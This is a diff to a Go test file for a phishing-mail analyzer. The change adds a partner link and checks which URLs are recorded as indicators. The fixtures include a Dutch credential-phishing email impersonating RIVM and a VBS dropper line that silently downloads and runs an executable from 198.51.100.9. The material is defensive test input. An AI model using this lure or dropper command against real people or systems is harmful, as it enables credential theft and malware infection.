@@ -23,7 +23,7 @@ const phishingMail = "From: RIVM Coronatest <info@rivm-coronatest.nl>\r\n" +
 	"Content-Type: text/html; charset=utf-8\r\n\r\n" +
 	"<p>Beste medewerker, uw COVID-19 testuitslag staat klaar. Log direct in met uw wachtwoord:</p>" +
 	"<a href=\"https://rivm-coronatest.nl/login?u=1\">https://www.rivm.nl/uitslag</a> " +
-	"<a href=\"https://www.rivm.nl/privacy\">privacy</a>\r\n"
+	"<a href=\"https://www.rivm.nl/privacy\">privacy</a> <a href=\"https://partner-ziekenhuis.example/info\">info</a>\r\n"
 
 func dropperMail() string {
 	vbs := "Set sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"powershell -w hidden -c iwr http://198.51.100.9/a.exe -OutFile $env:TEMP\\a.exe; start $env:TEMP\\a.exe\"\r\n"
@@ -44,6 +44,9 @@ func TestAnalyzeMail(t *testing.T) {
 	if rep.Verdict != mail.Phishing {
 		t.Fatalf("verdict %s (%v), want phishing", rep.Verdict, rep.Reasons)
 	}
+	if !slices.Contains(rep.IOCs.URLs, "https://partner-ziekenhuis.example/info") {
+		t.Fatalf("the partner link is not among the message's URLs: %v", rep.IOCs.URLs)
+	}
 	var got []string
 	for _, in := range rep.Recorded {
 		got = append(got, in.Type+" "+in.Value)
@@ -55,8 +58,8 @@ func TestAnalyzeMail(t *testing.T) {
 		}
 	}
 	for _, g := range got {
-		if strings.Contains(g, "www.rivm.nl") || strings.Contains(g, "umc-example") {
-			t.Errorf("recorded an official or own name: %s", g)
+		if strings.Contains(g, "www.rivm.nl") || strings.Contains(g, "umc-example") || strings.Contains(g, "partner-ziekenhuis") {
+			t.Errorf("recorded a real site the mail links to: %s", g)
 		}
 	}
 	inds, err := st.Indicators(ctx, store.IndicatorFilter{Org: "demo"})
